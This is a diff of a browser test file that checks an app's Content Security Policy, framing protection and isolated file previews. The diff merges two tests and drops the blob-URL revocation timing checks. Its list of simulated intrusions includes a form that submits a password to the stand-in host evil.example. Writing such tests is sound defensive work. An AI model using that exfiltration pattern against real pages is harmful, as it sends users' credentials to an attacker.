@@ -22,15 +22,15 @@ const INTRUSIONS: readonly [what: string, directive: string, run: () => void][] 
   ['a form that sends a password away', 'form-action', () => insert('form', { action: 'https://evil.example/' }).submit()],
 ]
 
-/** Exists only in the page, where {@link INTRUSIONS} run. */
 declare function insert<Tag extends keyof HTMLElementTagNameMap>(
   tag: Tag,
   properties: Partial<HTMLElementTagNameMap[Tag]>,
 ): HTMLElementTagNameMap[Tag]
 declare function insertMarkup(markup: string): void
 
-test('[FAULT-48] the policy is enforced: nothing injected into the page runs, loads or leaks', async ({
+test('[FAULT-48] nothing injected into the page runs, loads or leaks, and no page can frame it', async ({
   page,
+  appServer,
   consoleErrors,
 }) => {
   const left: string[] = []
@@ -65,10 +65,8 @@ test('[FAULT-48] the policy is enforced: nothing injected into the page runs, lo
   expect(left).toEqual([])
   expect(consoleErrors.length).toBeGreaterThan(0)
   expect(consoleErrors.filter((line) => !/Content Security Policy|violates the following/.test(line))).toEqual([])
-  consoleErrors.length = 0
-})
 
-test('the app cannot be framed, not even by a page of its own origin', async ({ page, appServer, consoleErrors }) => {
+  // Not even a page of its own origin.
   await page.route('**/frame-test', (route) =>
     route.fulfill({ contentType: 'text/html', body: `<iframe src="${appServer.url}/login"></iframe>` }),
   )
@@ -122,33 +120,11 @@ test('[FAULT-51] a file opens in an isolated tab; a blocked popup is reported', 
   await expect(preview.getByRole('img')).toBeVisible()
   const view = preview.getByRole('button', { name: 'Open in new tab' })
 
-  await page.clock.install()
-  await page.evaluate(() => {
-    const releases: number[] = []
-    const release = URL.revokeObjectURL.bind(URL)
-    URL.revokeObjectURL = (address) => {
-      releases.push(performance.now())
-      release(address)
-    }
-    Object.assign(window, { releases, viewedAt: performance.now() })
-  })
   const opening = page.waitForEvent('popup')
   await view.click()
   const tab = await opening
   await tab.waitForURL(/^blob:/)
   expect(await tab.evaluate(() => window.opener === null)).toBe(true)
-  const releasedAfter = () =>
-    page.evaluate(() => {
-      const { releases, viewedAt } = window as unknown as { releases: number[]; viewedAt: number }
-      return releases[0] === undefined ? null : releases[0] - viewedAt
-    })
-  // The address is revoked 6 s after the window has loaded; if the app cannot tell whether it has loaded, after a minute.
-  const secondLater = async () => {
-    await page.clock.fastForward(1_000)
-    return releasedAfter()
-  }
-  await expect.poll(secondLater, { intervals: [50] }).toBeGreaterThan(6_000)
-  expect(await releasedAfter()).toBeLessThan(30_000)
   await tab.close()
 
   const requested: string[] = []
